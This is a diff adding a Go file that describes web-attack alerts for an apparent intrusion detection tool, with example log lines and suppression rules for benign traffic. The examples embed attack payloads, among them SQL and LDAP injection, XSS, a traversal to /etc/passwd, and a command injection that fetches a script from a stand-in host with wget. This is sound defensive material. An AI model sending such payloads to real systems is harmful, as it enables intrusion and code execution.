@@ -1,0 +1,82 @@
+package event
+
+// attackEntries describe requests that look like attacks on a web server, and
+// requests for what should not be asked for.
+func attackEntries() []Entry {
+	seen := func(code Code, trail, info, meaning, benign, rule string) Entry {
+		return Entry{Code: code, Types: []Type{URL, HTTP}, Meaning: meaning, Benign: benign, Rule: rule,
+			Example: "2023-11-14 22:13:20 medium 203.0.113.9:50040 -> 10.0.0.7:80 TCP URL shop.example(" + trail + ") " + info + " (suspicious) (heuristic)"}
+	}
+	tests := "Security tests of one's own: role `scanner` for the host they come from."
+	return []Entry{
+		seen(HTTPSQLi, "/items?id=1%20union%20all%20select%20a%20from%20b", "potential sql injection",
+			"Path or body hold a piece of SQL.",
+			"Search fields in which people write SQL, administration tools such as phpMyAdmin, reports with queries in URLs. "+tests,
+			"{name: db-console, reason: \"the database console sends SQL by design\", action: drop, destination: [10.0.0.7], trail: [\"shop.example(/items?*\"], code: [http.sqli]}"),
+		seen(HTTPXMLi, "/x?a=%2ftext%28%29='b", "potential xml injection",
+			"An XPath expression that would change a query of the server.",
+			"Rare. "+tests,
+			"{name: xpath-tool, reason: \"the XPath tester\", action: drop, destination: [10.0.0.7], code: [http.xmli]}"),
+		seen(HTTPPHPi, "/x?a=php:/input", "potential php injection",
+			"PHP code, or the stream that PHP reads a request's body from, in a request.",
+			"Forums and wikis about PHP, deployment by upload. "+tests,
+			"{name: wiki, reason: \"articles with PHP code\", action: drop, destination: [10.0.0.7], destination_port: [80], code: [http.phpi]}"),
+		seen(HTTPLDAPi, "/x?u=*%29%28|%28cn=*", "potential ldap injection",
+			"A piece of an LDAP filter that would widen the one of the server.",
+			"Directory search with filters in URLs. "+tests,
+			"{name: directory, reason: \"the phone book takes filters\", action: drop, destination: [10.0.0.7], code: [http.ldapi]}"),
+		seen(HTTPXSS, "/x?q=<script>alert%281%29</script>", "potential xss injection",
+			"A script, or an attribute that runs one, in a request, so that the page shows it to others.",
+			"Editors that send HTML, advertising with scripts in parameters. "+tests,
+			"{name: cms-editor, reason: \"the editor posts HTML\", action: drop, source: [203.0.113.9], destination: [10.0.0.7], code: [http.xss]}"),
+		seen(HTTPXXE, "/x?q=[<!entity%20a", "potential xxe injection",
+			"The definition of an external entity of XML.",
+			"Rare. "+tests,
+			"{name: xml-gateway, reason: \"partner sends documents with entities\", action: drop, source: [203.0.113.9], destination: [10.0.0.7], code: [http.xxe]}"),
+		seen(HTTPSSTI, "/x?q=${7*7}", "potential ssti injection",
+			"An expression in the syntax of templates, which a server with the fault would compute.",
+			"Placeholders that a client forgot to fill in: `${id}`. "+tests,
+			"{name: broken-app, reason: \"the app sends placeholders, ticket 4711\", expires: 2099-12-31, action: drop, trail: [\"shop.example(/x?q=*\"], code: [http.ssti]}"),
+		{
+			Code: HTTPLeak, Types: []Type{URL, HTTP},
+			Meaning: "Serial numbers of a phone or SIM, hardware addresses, or several e-mail addresses leave in a request. In a path it is not raised for a server at home.",
+			Example: "2023-11-14 22:13:20 medium 10.0.0.66:50040 -> 203.0.113.10:80 TCP URL shop.example(/x?imei=123456789012345) potential data leakage (suspicious) (heuristic)",
+			Benign:  "Apps and analytics that do that by design: it is for you to say whether they may. A rule by name of the server.",
+			Rule:    "{name: mdm, reason: \"device management reports the IMEI\", action: drop, trail: [\"shop.example(*\"], code: [http.leak]}",
+		},
+		seen(HTTPConfig, "/a/.htaccess", "config file access",
+			"A request for a configuration file that servers do not give out (`.htaccess`, `.htpasswd`, `wp-config.php`).",
+			"Nearly none; outside noise. "+tests,
+			"{name: monitoring-htaccess, reason: \"checks that it is forbidden\", action: drop, source: [203.0.113.9], trail: [\"shop.example(/a/.htaccess)\"], code: [http.config]}"),
+		seen(HTTPRCE, "/x?q=;wget%20http:/a.example/x.sh", "potential remote code execution",
+			"Commands of a shell, of Windows or of an interpreter in a request. With `outcome: answered` and status 200 look at the server first.",
+			"Pages about administration, ticket systems, build servers with commands in URLs. "+tests,
+			"{name: build-server, reason: \"jobs have commands in parameters\", action: drop, source: [203.0.113.9], destination: [10.0.0.7], code: [http.rce]}"),
+		seen(HTTPTraversal, "/x?f=../../../etc/passwd", "potential directory traversal",
+			"A path that climbs out of its directory, or names a file of the system that nobody asks a web server for.",
+			"Pages with broken relative links. "+tests,
+			"{name: broken-links, reason: \"relative links of the old site\", action: drop, destination: [10.0.0.7], trail: [\"shop.example(/x?f=*\"], code: [http.traversal]}"),
+		seen(HTTPWebScan, "/x?acunetix_wvs_security_test=1", "potential web scan",
+			"A text that a vulnerability scanner sends, or a file that only scanners ask for.",
+			tests,
+			"{name: pentest, reason: \"penetration test of June\", owner: secops, expires: 2099-06-30, action: local, source: [203.0.113.9], code: [\"http.*\", \"scan.*\"]}"),
+		seen(HTTPDNSChanger, "/apply?dnsprimary=192.0.2.53", "potential dns changer",
+			"A request that sets the resolvers of a home router: what a web page has a browser do behind its user's back.",
+			"Somebody configures such a router.",
+			"{name: router-admin, reason: \"we configure the branch routers from here\", action: drop, source: [203.0.113.9], destination: [10.0.0.7], code: [http.dnschanger]}"),
+		{
+			Code: HTTPNonexistent, Types: []Type{URL},
+			Meaning: "A request for a page that does not exist anywhere and that scanners ask for to see what a server says then.",
+			Example: "2023-11-14 22:13:20 medium 203.0.113.9:50040 -> 10.0.0.7:80 TCP URL shop.example(/defaultwebpage.cgi) non-existent page (suspicious) (heuristic)",
+			Benign:  "Outside noise. " + tests,
+			Rule:    "{name: appliance-check, reason: \"the load balancer asks for it\", action: drop, source: [203.0.113.9], trail: [\"shop.example(/defaultwebpage.cgi)\"], code: [http.nonexistent]}",
+		},
+		{
+			Code: HTTPDownload, Types: []Type{URL},
+			Meaning: "A program or installer is fetched from outside by a plain, short name (`/setup.exe`, `/a.ps1`): how droppers fetch the next stage. Long names, parameters and the directories of known vendors are left out.",
+			Example: "2023-11-14 22:13:20 medium 10.0.0.66:50040 -> 203.0.113.10:80 TCP URL shop.example(/setup.exe) direct .exe download (suspicious) (heuristic)",
+			Benign:  "Downloads of software, the most common of all; a proxy, which fetches for many: role `proxy`. Whitelist vendors by name.",
+			Rule:    "{name: vendor-downloads, reason: \"installers of this vendor\", action: drop, trail: [\"shop.example(*\"], code: [http.download]}",
+		},
+	}
+}
